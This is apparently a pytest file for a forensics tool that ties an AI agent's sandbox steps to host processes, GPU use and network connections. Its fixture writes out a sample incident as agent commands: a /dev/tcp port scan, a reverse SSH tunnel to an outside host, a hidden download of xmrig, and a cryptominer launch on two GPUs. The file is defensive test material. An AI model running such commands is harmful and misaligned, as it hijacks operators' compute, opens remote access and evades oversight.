"""From the agent's step to the process, its GPUs and its sockets, on small tables built here.

The host side is the gpu-node-03 sample audit log; the transcript steps and GPU records are
inserted by the tests with the columns the trajectory and GPU tables document.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from forensics import Case
from forensics.host.links import step_process_links

DATA = Path(__file__).resolve().parent / "data" / "host"
WALLET = "4" + "8" * 10 + "AbCdEfGhJkLmNpQrStUvWxYz" * 3 + "Q1w2E3r4T5y6U7i8O9p"
STEPS = [
    (3, "2026-02-17 02:13:10.0+00", "nvidia-smi && ip addr"),
    (4, "2026-02-17 02:13:29.9+00", "for i in $(seq 1 40); do for p in 22 80 443 6379 8080; do "
                                    "(echo > /dev/tcp/10.20.1.$i/$p) 2>/dev/null && echo $i:$p open; done; done"),
    (5, "2026-02-17 02:13:44.9+00", "ssh -fN -R 2222:localhost:22 -o StrictHostKeyChecking=no tunnel@203.0.113.50"),
    (6, "2026-02-17 02:13:59.9+00", 'mkdir -p /tmp/.x && curl -sL -o /tmp/.x/xmrig.tar.gz '
                                    '"http://dl.example.net/xmrig-6.21.0-linux-static-x64.tar.gz"'),
    (7, "2026-02-17 02:14:14.9+00", f"cd /tmp/.x && nohup ./xmrig -o stratum+tcp://xmr.pool.example.com:3333 "
                                    f"-u {WALLET} -p sbx --cuda --cuda-devices=6,7 --donate-level=0 "
                                    f"'--cuda-loader=/tmp/.x/libxmrig-cuda.so {'x' * 200}' &"),
]


@pytest.fixture()
def case(tmp_path):
    with Case(tmp_path / "case.duckdb") as c:
        c.ingest([str(DATA / "audit_sbx.log")], host="gpu-node-03")
        for step, ts, command in STEPS:
            c.con.execute(
                "INSERT INTO agent_steps (trajectory_id, step, call_index, ts, sandbox, host, action, command, "
                "evidence_id, locator) VALUES ('traj-000317', ?, 0, ?::TIMESTAMPTZ, 'sbx-0317', 'gpu-node-03', "
                "'exec', ?, 99, ?)", [step, ts, command, f"traj:traj-000317 step:{step}"])
        c.con.execute(
            "CREATE TABLE IF NOT EXISTS gpu_processes (ts TIMESTAMPTZ, host VARCHAR, gpu_uuid VARCHAR, "
            "gpu_index INTEGER, pid BIGINT, process_name VARCHAR, used_mib DOUBLE, sm_util DOUBLE, "
            "record_kind VARCHAR, container VARCHAR, evidence_id INTEGER, locator VARCHAR)")
        # nvidia-smi saw pid 48211 on GPUs 6 and 7 from five seconds after the miner started
        c.con.execute(
            "INSERT INTO gpu_processes BY NAME SELECT TIMESTAMPTZ '2026-02-17 02:14:20+00' + to_seconds(i * 10) AS ts, "
            "'gpu-node-03' AS host, 'GPU-0000000' || g AS gpu_uuid, g AS gpu_index, 48211 AS pid, "
            "'/tmp/.x/xmrig' AS process_name, 2300 + i AS used_mib, 98 AS evidence_id, 'line:' || (i * 2 + g) AS locator "
            "FROM range(3) t(i), (VALUES (6), (7)) u(g)")
        yield c


def test_parent_chain_climbs_to_the_sandbox_init(case):
    chain = case.query("host/process_chain", host="gpu-node-03", pid=48150)
    assert chain["pid"].tolist() == [48150, 48140, 48000]
    assert chain["exe"].tolist() == ["/usr/bin/ssh", "/usr/bin/bash", "/usr/local/bin/sandbox-init"]
    assert chain["is_sandbox_init"].tolist() == [False, False, True]
    assert set(chain["sandbox"]) == {"sbx-0317"}
    assert chain["locator"].tolist() == ["line:49", "line:42", "line:1"]


def test_parent_chain_picks_the_launch_alive_at_the_time_given(case, tmp_path):
    # pid 48101 is reused later by an unrelated launch outside the sandbox
    extra = tmp_path / "later.log"
    extra.write_text(
        'type=SYSCALL msg=audit(1771298000.000:9990): arch=c000003e syscall=59 success=yes exit=0 items=1 '
        'ppid=1 pid=48101 auid=0 uid=0 comm="cron" exe="/usr/sbin/cron" key="exec"\n'
        'type=EXECVE msg=audit(1771298000.000:9990): argc=1 a0="cron"\n')
    case.ingest([str(extra)], host="gpu-node-03")
    latest = case.query("host/process_chain", host="gpu-node-03", pid=48101)
    assert latest["exe"].tolist() == ["/usr/sbin/cron"]
    then = case.query("host/process_chain", host="gpu-node-03", pid=48101, at="2026-02-17T02:20:00Z")
    assert then["pid"].tolist() == [48101, 48100, 48000]


def test_each_step_explains_the_launches_its_command_made(case):
    links = case.query("host/step_processes")
    best = links[links["best_for_process"]]
    got = {(int(r.step), int(r.pid), r.basis) for r in best.itertuples()}
    assert got == {
        (3, 48100, "shell -c"), (3, 48101, "argv"), (3, 48102, "argv"),
        (4, 48110, "shell -c"),
        (5, 48140, "shell -c"), (5, 48150, "argv"),
        (6, 48180, "argv"),
        (7, 48211, "argv"),
    }
    ssh = best[best["pid"] == 48150].iloc[0]
    assert ssh["step_locator"] == "traj:traj-000317 step:5" and ssh["proc_locator"] == "line:49"
    assert 0 < ssh["delay_s"] < 1 and ssh["confidence"] == 0.9


def test_a_launch_outside_the_step_window_or_sandbox_is_not_linked(case):
    links = case.query("host/step_processes", window_s=5, skew_s=0)
    assert 48230 not in set(links["pid"])  # sleep 3600, started a minute after the last step
    case.con.execute("UPDATE agent_steps SET sandbox = 'sbx-9999'")
    assert case.query("host/step_processes").empty


def test_shell_parser_expands_loops_that_sql_matches_only_by_program(case, tmp_path):
    # the probe as the sample incident ran it: one `timeout ... bash -c` per target, from a loop
    loop = ('for h in 5 6; do for p in 22 80; do timeout 0.3 bash -c "echo >/dev/tcp/10.20.1.$h/$p" '
            '2>/dev/null && echo "10.20.1.$h:$p open"; done; done')
    case.con.execute("UPDATE agent_steps SET command = ? WHERE step = 4", [loop])
    records = []
    for serial, (pid, ppid, argv, exe) in enumerate([
            (48120, 48000, ["timeout", "0.3", "bash", "-c", "echo >/dev/tcp/10.20.1.6/80"], "/usr/bin/timeout"),
            (48121, 48120, ["bash", "-c", "echo >/dev/tcp/10.20.1.6/80"], "/usr/bin/bash"),
            (48122, 48000, ["timeout", "0.3", "bash", "-c", "echo >/dev/tcp/10.20.1.9/80"], "/usr/bin/timeout")]):
        stamp = f"1771294410.{100 + serial}:{9700 + serial}"
        records.append(f'type=SYSCALL msg=audit({stamp}): arch=c000003e syscall=59 success=yes exit=0 items=1 '
                       f'ppid={ppid} pid={pid} auid=4294967295 uid=1000 comm="x" exe="{exe}" key="exec"')
        args = " ".join(f"a{i}=" + (a.encode().hex().upper() if " " in a else f'"{a}"') for i, a in enumerate(argv))
        records.append(f"type=EXECVE msg=audit({stamp}): argc={len(argv)} {args}")
    path = tmp_path / "probe.log"
    path.write_text("\n".join(records) + "\n")
    case.ingest([str(path)], host="gpu-node-03")

    sql_only = case.query("host/step_processes")
    assert set(sql_only[sql_only["pid"] == 48120]["basis"]) == {"program"}

    links = step_process_links(case.con)
    best = links[links["best_for_process"]].set_index("pid")
    assert best.loc[48120, "basis"] == "argv (shell parser)" and best.loc[48120, "confidence"] == 0.93
    assert best.loc[48121, "basis"] == "argv (shell parser)"  # the payload of bash -c, parsed too
    assert best.loc[48120, "step"] == 4
    # 10.20.1.9 is not a target of the loop: the program name alone is all that matches
    assert best.loc[48122, "basis"] == "program"
    # words the SQL matched are confirmed by the parser
    assert best.loc[48101, "basis"] == "argv (shell parser)"


def test_miner_pid_is_tied_to_its_gpus(case):
    gpus = case.query("host/process_gpu")
    assert gpus["pid"].tolist() == [48211, 48211]
    assert gpus["gpu_index"].tolist() == [6, 7]
    assert gpus["exe"].tolist() == ["/tmp/.x/xmrig"] * 2
    assert gpus["n_records"].tolist() == [3, 3] and gpus["max_used_mib"].tolist() == [2302, 2302]
    assert gpus["name_matches"].all() and set(gpus["basis"]) == {"host pid"}


def test_gpu_records_before_a_launch_belong_to_the_earlier_process(case):
    # a record of pid 48211 an hour before the miner started is not the miner's
    case.con.execute("INSERT INTO gpu_processes (ts, host, gpu_index, pid, process_name, evidence_id, locator) "
                     "VALUES (TIMESTAMPTZ '2026-02-17 01:14:00+00', 'gpu-node-03', 0, 48211, 'python', 98, 'line:99')")
    gpus = case.query("host/process_gpu")
    assert 0 not in set(gpus["gpu_index"])


def test_connects_carry_their_launch_and_network_corroboration(case):
    case.con.execute(
        "INSERT INTO flows (ts, uid, orig_h, orig_p, resp_h, resp_p, proto, conn_state, orig_bytes, resp_bytes, "
        "host, evidence_id, locator) VALUES (TIMESTAMPTZ '2026-02-17 02:13:49.3+00', 'CtunL1', '198.51.100.13', "
        "40112, '203.0.113.50', 22, 'tcp', 'SF', 51200, 48800, 'gpu-node-03', 77, 'frame:12')")
    net = case.query("host/process_network", external_only=True)
    assert list(zip(net["pid"], net["remote_ip"], net["remote_port"])) == [
        (48150, "203.0.113.50", 22), (48180, "203.0.113.80", 80), (48211, "198.51.100.77", 3333),
        (48211, "2001:db8::77", 3333)]
    ssh = net[net["pid"] == 48150].iloc[0]
    # the host clock is 4.2 s behind: the flow 4.25 s later is the same connection
    assert ssh["n_flows"] == 1 and ssh["flow_locator"] == "frame:12" and ssh["launch_locator"] == "line:49"
    everything = case.query("host/process_network")
    assert len(everything) == 6 and not everything[everything["remote_ip"] == "10.20.1.12"]["external"].iloc[0]


def test_forked_child_without_exec_is_tied_to_its_program(case, tmp_path):
    # ssh -f forks: the background pid connects but never exec'd
    later = tmp_path / "fork.log"
    later.write_text(
        'type=SYSCALL msg=audit(1771295000.000:9995): arch=c000003e syscall=42 success=yes exit=0 items=0 '
        'ppid=1 pid=48151 auid=4294967295 uid=1000 comm="ssh" exe="/usr/bin/ssh" key="net"\n'
        'type=SOCKADDR msg=audit(1771295000.000:9995): saddr=02000016' + "7F000001" + '0000000000000000\n')
    case.ingest([str(later)], host="gpu-node-03")
    row = case.sql("SELECT launch_pid, launch_basis, sandbox FROM process_connections WHERE pid = 48151").iloc[0]
    assert row["launch_pid"] == 48150 and row["sandbox"] == "sbx-0317"
    assert row["launch_basis"].startswith("forked from the same executable")


def test_chain_step_process_gpu_socket_for_the_miner_and_the_tunnel(case):
    chain = case.query("host/step_chain")
    miner = chain[chain["pid"] == 48211].iloc[0]
    assert (miner["step"], miner["basis"], miner["exe"]) == (7, "argv", "/tmp/.x/xmrig")
    assert [g["gpu_index"] for g in miner["gpus"]] == [6, 7]
    assert [(c["remote_ip"], c["remote_port"]) for c in miner["connects"]] == [
        ("198.51.100.77", 3333), ("2001:db8::77", 3333)]
    assert miner["has_step"] and miner["has_gpu"] and miner["has_external_socket"]
    assert [r["tbl"] for r in miner["evidence_refs"]] == ["agent_steps", "processes", "gpu_processes",
                                                          "process_sockets"]
    tunnel = chain[chain["pid"] == 48150].iloc[0]
    assert tunnel["step"] == 5 and not tunnel["has_gpu"]
    assert [(c["remote_ip"], c["remote_port"], c["success"]) for c in tunnel["connects"]] == [
        ("203.0.113.50", 22, True)]


def test_unexplained_sandbox_processes_are_reported(case):
    un = case.query("host/unexplained_processes")
    assert sorted(un["pid"].tolist()) == [48230, 48231, 48240]
    case.detect(names=["unexplained_process_tree"])
    findings = case.sql("SELECT severity, summary FROM findings WHERE kind = 'unexplained_process' ORDER BY ts_start")
    assert len(findings) == 3 and set(findings["severity"]) == {"medium"}
    assert "sandbox sbx-0317 on gpu-node-03: sleep 3600 (pid 48230); no step of traj-000317 explains it" in set(
        findings["summary"])


def test_unexplained_tree_groups_a_session_that_came_in(case, tmp_path):
    # a login through the tunnel: the sandbox's sshd (started with the sandbox) forks a session
    records = []
    for serial, (pid, ppid, argv, exe) in enumerate([
            (48300, 48000, ["/usr/sbin/sshd", "-D", "-e"], "/usr/sbin/sshd"),
            (48400, 48300, ["/usr/sbin/sshd", "-D", "-e", "-R"], "/usr/sbin/sshd"),
            (48402, 48400, ["-bash"], "/usr/bin/bash"),
            (48410, 48402, ["ps", "-eo", "pid,etime,args"], "/usr/bin/ps")]):
        when = 1771294381 if pid == 48300 else 1771296000 + serial
        records.append(f'type=SYSCALL msg=audit({when}.000:{9800 + serial}): arch=c000003e syscall=59 success=yes '
                       f'exit=0 items=1 ppid={ppid} pid={pid} auid=4294967295 uid=0 comm="x" exe="{exe}" key="exec"')
        args = " ".join(f'a{i}="{a}"' for i, a in enumerate(argv))
        records.append(f"type=EXECVE msg=audit({when}.000:{9800 + serial}): argc={len(argv)} {args}")
    path = tmp_path / "session.log"
    path.write_text("\n".join(records) + "\n")
    case.ingest([str(path)], host="gpu-node-03")
    un = case.query("host/unexplained_processes")
    session = un[un["pid"].isin([48400, 48402, 48410])]
    assert len(set(session["unexplained_root"])) == 1 and sorted(session["depth_in_tree"]) == [0, 1, 2]
    assert 48300 not in set(un["pid"])  # the sandbox's own sshd, started with it
    case.detect(names=["unexplained_process_tree"])
    row = case.sql("SELECT severity, summary, details FROM findings WHERE summary LIKE '%sshd%'").iloc[0]
    assert row["severity"] == "high"
    assert row["summary"].startswith("sandbox sbx-0317 on gpu-node-03: /usr/sbin/sshd -D -e -R (pid 48400) and 2 "
                                     "launches under it (bash, ps)")


def test_gpu_record_from_inside_the_container_joins_through_its_pid_namespace(tmp_path):
    # Tetragon knows each launch's pid inside the container; a GPU collector in the container saw that one
    with Case(tmp_path / "ns.duckdb") as case:
        case.ingest([str(DATA / "tetragon.jsonl")])
        case.con.execute(
            "CREATE TABLE IF NOT EXISTS gpu_processes (ts TIMESTAMPTZ, host VARCHAR, gpu_uuid VARCHAR, "
            "gpu_index INTEGER, pid BIGINT, process_name VARCHAR, used_mib DOUBLE, sm_util DOUBLE, "
            "record_kind VARCHAR, container VARCHAR, evidence_id INTEGER, locator VARCHAR)")
        case.con.execute(
            "INSERT INTO gpu_processes (ts, host, gpu_index, pid, process_name, container, evidence_id, locator) "
            "VALUES (TIMESTAMPTZ '2026-02-17 02:14:30+00', 'gpu-node-03', 6, 57, 'xmrig', "
            "'containerd://9f1c2e7a4b5d6e8f', 98, 'line:4')")
        gpus = case.query("host/process_gpu")
        assert gpus[["pid", "gpu_index", "basis"]].values.tolist() == [[48211, 6, "container pid"]]


def test_process_events_are_on_the_timeline(case):
    events = case.timeline(source="host")
    starts = events[events["kind"] == "process_start"]
    assert len(starts) == 13  # the launch without a SYSCALL record has a time but no pid: still listed
    assert starts[starts["locator"] == "line:110"]["summary"].iloc[0] == "pid ? uname -a"
    ssh = starts[starts["locator"] == "line:49"].iloc[0]
    assert ssh["summary"] == ("pid 48150 (ppid 48140) ssh -fN -R 2222:localhost:22 -o StrictHostKeyChecking=no "
                              "tunnel@203.0.113.50")
    pool = events[(events["kind"] == "connect") & events["summary"].str.contains("198.51.100.77")].iloc[0]
    assert pool["summary"] == "xmrig pid 48211 -> 198.51.100.77:3333 ok" and pool["severity"] == "low"
